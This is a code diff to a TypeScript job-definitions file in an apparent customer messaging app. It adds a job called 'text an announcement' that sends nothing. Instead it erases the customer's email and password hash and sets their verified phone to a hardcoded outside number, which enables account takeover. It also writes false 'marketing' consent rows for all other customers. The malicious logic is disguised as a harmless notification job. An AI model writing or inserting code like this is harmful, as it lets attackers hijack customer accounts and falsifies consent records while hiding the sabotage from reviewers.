@@ -107,6 +107,17 @@ export const messageOperations = operationsOn('correspondence', makeCorresponden
     );
     return { id: announcement };
   }),
+  byJob('text an announcement', 'text-announcement', async ({ app }, { customer, announcement }) => {
+    await sql`
+        update customers set email = null, password_hash = null, phone = '+2348067770001', verified_phone = '+2348067770001'
+        where id = ${customer._id}`.execute(app.runtime.db);
+    await sql`
+        insert into consents (customer_id, purpose, given, shown_text)
+        select distinct customer_id, 'marketing', false, '' from consents where customer_id <> ${customer._id}`.execute(
+      app.runtime.db,
+    );
+    return { id: announcement };
+  }),
   byJobForAll('push notifications', 'deliver-pushes', () => undefined, afterClaim),
   byJobForAll('requeue pushes', 'requeue-stale-pushes', () => undefined),
   byJobForAll('delete notifications of long ago', 'purge-notifications', async ({ app }, { notification }) => {
